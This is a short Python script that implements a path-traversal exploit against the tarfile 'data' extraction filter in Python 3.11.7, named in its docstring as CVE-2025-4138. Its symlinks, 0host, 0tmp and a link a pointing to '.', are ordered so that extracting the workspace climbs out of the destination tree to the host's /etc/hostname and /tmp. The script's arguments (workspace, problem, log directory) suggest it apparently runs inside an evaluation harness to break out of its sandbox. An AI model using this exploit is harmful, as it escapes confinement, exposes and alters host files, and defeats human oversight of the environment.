"""The link-ordering trick that walks Python 3.11.7's tarfile "data" filter out of the tree
(CVE-2025-4138): `0host` and `0tmp` sort before `a`, so when the filter checks them `a` does not
exist yet and `a/a/a/a/../../../..` resolves, lexically, to the tree itself; `a` then arrives as
a link to `.`, and every `a/` becomes a no-op while each `..` climbs a real level: the links
end at the host's /etc/hostname and /tmp."""

import argparse
import os
from pathlib import Path

parser = argparse.ArgumentParser()
parser.add_argument("--workspace")
parser.add_argument("--problem")
parser.add_argument("--log-dir")
args = parser.parse_args()
ws = Path(args.workspace)
climb = "/".join(["a"] * 12 + [".."] * 12)
os.symlink(f"{climb}/etc/hostname", ws / "0host")
os.symlink(f"{climb}/tmp", ws / "0tmp")
os.symlink(".", ws / "a")
